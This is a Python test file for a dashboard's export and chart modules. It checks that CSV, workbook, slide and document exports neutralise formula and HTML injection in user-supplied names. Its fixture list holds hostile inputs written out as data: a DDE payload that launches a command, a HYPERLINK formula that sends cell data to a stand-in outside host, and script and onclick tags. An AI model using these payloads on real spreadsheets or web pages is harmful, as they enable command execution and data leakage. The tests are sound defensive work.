"""What a supplier or a user wrote stays text: in a file that we hand out, and in a chart."""

import csv
import io
from datetime import UTC, date, datetime

import openpyxl
import polars as pl
import pytest
from docx import Document
from pptx import Presentation

from dashboard.charts import ChartSpec, horizontal_bars, stacked_bars
from dashboard.charts.labels import wrapped_labels
from dashboard.charts.tags import plain
from dashboard.exports.context import ExportContext
from dashboard.exports.csv_file import csv_file
from dashboard.exports.harmless import harmless_in_csv
from dashboard.exports.pptx_file import pptx_file
from dashboard.exports.xlsx_file import xlsx_file
from dashboard.tables import Column, Table
from reports.document import paper_document
from reports.structure import Paper, Section

ATTACKS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://buiten.example/?x="&A1)',
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "{=1+1}",
    "https://buiten.example/x",
    "internal:Sheet1!A1",
)
CONTEXT = ExportContext(
    "Noden",
    "noden",
    None,
    date(2025, 11, 21),
    1,
    "2026.1",
    is_demo=False,
    filters={"=Zoekwoord": "=cmd|' /C calc'!A0"},
)
SPEC = ChartSpec("=1+1", "=1+1", "=bron", "=uitleg")
#: What a spreadsheet program may run when it is the first sign of a field, however wide it is written.
SIGNS = "=+-@\t\r\n＝＋－＠"


@pytest.fixture
def table() -> Table:
    frame = pl.DataFrame({"naam": ATTACKS, "score": range(len(ATTACKS))})
    return Table(frame, (Column("naam", "=Naam", "tekst", "=definitie"), Column("score", "Score", "geheel")))


def test_no_field_of_a_csv_begins_like_a_formula(table):
    text = csv_file(table, CONTEXT, "=bron", "=uitleg").decode("utf-8-sig")
    fields = [field for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for field in row]
    assert [field for field in fields if field and field.lstrip()[:1] in SIGNS] == []
    assert [f"'{attack}" for attack in ATTACKS[:14]] == fields[2:30:2]


def test_a_csv_leaves_ordinary_texts_and_numbers_alone():
    for text in ("De Beuk", "", "3", "–", "a=b", "1.2.3", "'t Kofschip", "(ontbreekt)", "-20", "-2,5"):
        assert harmless_in_csv(text) == text
    for text in ("-20+1", "-2,5*A1", "- 20", "-20\n=1", "+20", "-２０"):
        assert harmless_in_csv(text) == f"'{text}"


def test_every_text_of_a_workbook_is_text(table):
    book = openpyxl.load_workbook(io.BytesIO(xlsx_file(table, CONTEXT, "=bron", "=uitleg")))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s", "n"}
    assert [cell for cell in cells if cell.hyperlink] == []
    assert ATTACKS[0] in [cell.value for cell in cells]


@pytest.mark.parametrize("kind", ["bars", "stacked"])
def test_the_workbook_behind_a_chart_on_a_slide_holds_no_formula_and_no_link(kind):
    frame = pl.DataFrame({"naam": ATTACKS, "score": [1.0] * len(ATTACKS)})
    if kind == "bars":
        chart = horizontal_bars(frame, "naam", "score", SPEC)
    else:
        chart = stacked_bars(frame, "naam", {"score": ("=1+1", "#3A78C2")}, SPEC)
    slides = Presentation(io.BytesIO(pptx_file(chart, CONTEXT, 3))).slides
    (drawn,) = [shape.chart for shape in slides[0].shapes if shape.has_chart]
    book = openpyxl.load_workbook(io.BytesIO(drawn.part.chart_workbook.xlsx_part.blob))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s", "n"}
    assert [cell for cell in cells if cell.hyperlink] == []
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert "'=cmd|' /C calc'!A0" in texts
    assert "'https://buiten.example/x" in texts


def test_a_document_holds_no_field_and_no_link_of_a_text(tmp_path):
    paper = Paper(
        "=titel",
        "=onder",
        ("=let op",),
        (("=wat", ATTACKS[0]),),
        (Section("=deel", paragraphs=(ATTACKS[1],)),),
        "=voet",
    )
    path = tmp_path / "kaart.docx"
    path.write_bytes(paper_document(paper, datetime(2026, 1, 1, tzinfo=UTC)))
    document = Document(str(path))
    body = document.element.body.xml
    assert "buiten.example" in body
    assert "w:hyperlink" not in body
    assert "HYPERLINK" not in "".join(node.text or "" for node in document.element.body.iter("{*}instrText"))


@pytest.mark.parametrize(
    ("name", "shown"),
    [
        ("De <a href='https://buiten.example'>Beuk</a>", "De &lt;a href='https://buiten.example'>Beuk&lt;/a>"),
        ("<span style='color:red'>x</span>", "&lt;span style='color:red'>x&lt;/span>"),
        ("<script>alert(1)</script>", "&lt;script>alert(1)&lt;/script>"),
        ("<b onclick=x>", "&lt;b onclick=x>"),
        ("n < 5", "n &lt; 5"),
        ("eerste<br>tweede", "eerste<br>tweede"),
        ("De Beuk", "De Beuk"),
    ],
)
def test_a_tag_in_a_name_is_shown_and_not_followed(name, shown):
    assert plain(name) == shown


def test_no_text_of_a_chart_holds_a_tag_of_a_name_and_labels_keep_their_places():
    name = "<a href='https://buiten.example/x'>De Beuk</a><img src=x>"
    frame = pl.DataFrame({"naam": [name, "De Eik"], "score": [2.0, 1.0]})
    chart = wrapped_labels(horizontal_bars(frame, "naam", "score", SPEC))
    drawn = chart.figure.to_json()
    assert "buiten.example" in drawn
    for tag in ("<a", "<img", "</a", "\\u003ca", "\\u003cimg"):
        assert tag not in drawn
    assert set(chart.figure.layout.yaxis.tickvals) == set(chart.figure.data[0].y)
    assert chart.native.categories[0] == name or chart.native.categories[1] == name
